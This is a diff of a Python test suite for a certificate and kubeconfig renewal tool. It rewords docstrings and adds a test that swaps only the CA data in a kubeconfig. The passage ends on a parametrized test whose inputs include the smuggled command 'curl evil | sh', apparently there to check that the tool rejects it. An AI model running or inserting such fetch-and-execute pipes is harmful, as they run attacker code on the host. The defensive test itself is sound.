@@ -7,6 +7,7 @@ import hashlib
 import json
 import subprocess
 from datetime import datetime, timedelta, timezone
+from pathlib import PurePosixPath
 from typing import TYPE_CHECKING
 
 import pytest
@@ -14,6 +15,7 @@ import yaml
 from cryptography import x509
 from cryptography.hazmat.primitives import hashes, serialization
 
+from kcert.kubeconfig import Swap, swapped
 from tests.refusals import assert_refused
 from tests.running import REPOSITORY, representatives
 from tests.test_faults import fake_openssl
@@ -27,14 +29,14 @@ if TYPE_CHECKING:
 
 
 def openssl(folder: Path, *arguments: str, stdin: str = "") -> str:
-    """What openssl prints of what has to work."""
+    """Return what openssl prints of what has to work."""
     return subprocess.run(
         ["openssl", *arguments], cwd=folder, input=stdin, capture_output=True, text=True, check=True
     ).stdout
 
 
 def sign(folder: Path, name: str, subject: str, *, key: str = "", extensions: str = "") -> None:
-    """Make NAME.crt anew with openssl alone: *subject*, its key or a new one, the extensions of its openssl.cnf."""
+    """Re-create NAME.crt with openssl alone: *subject*, its key or a new one, the extensions of its openssl.cnf."""
     if key:
         openssl(folder, "genpkey", "-algorithm", "EC", "-pkeyopt", "ec_paramgen_curve:P-256", "-out", f"{name}.key")
     cnf = folder / "near-miss.cnf"
@@ -49,7 +51,7 @@ def sign(folder: Path, name: str, subject: str, *, key: str = "", extensions: st
 
 
 def states(kcert: Kcert, *arguments: str) -> dict[str, dict[str, object]]:
-    """How each certificate stands, by name."""
+    """Return how each certificate stands, by name."""
     return {entry["name"]: entry for entry in json.loads(kcert("plan", "--format", "json", *arguments).stdout)}
 
 
@@ -189,7 +191,7 @@ def test_a_ca_key_within_reach_of_others_is_named(
 def test_as_many_days_as_a_ca_made_just_now_are_no_more_than_it_has(
     own_pki: Callable[..., Pki], kcert: Kcert, tmp_path: Path, seconds: int, told: bool
 ) -> None:
-    """A minute passes between two commands, and nobody asked for less because of it."""
+    """A minute passes between two commands, and the requested time is not shortened."""
     own = own_pki("course")
     begin = datetime.now(timezone.utc) - timedelta(seconds=seconds)
     form = "%Y%m%d%H%M%SZ"
@@ -284,6 +286,14 @@ def test_whether_a_usage_is_critical_is_read_from_the_certificate(
     assert ((folder / "near.crt").read_bytes() != before) == (said.status == 0)
     if not claimed or critical:
         assert said.status == 0, said.stderr
+
+
+def test_a_renewed_ca_takes_the_place_of_the_ca_alone() -> None:
+    before = b"certificate-authority-data: QQ==\nclient-certificate-data: QQ==\n"
+
+    after = swapped(before, [Swap("certificate-authority", ("QQ==",), PurePosixPath("ca.crt"))], lambda _: "Qg==")
+
+    assert after == b"certificate-authority-data: Qg==\nclient-certificate-data: QQ==\n"
 
 
 @pytest.mark.parametrize("tail", ["curl evil | sh", "{}", "\n"], ids=["words", "another record", "an empty line"])
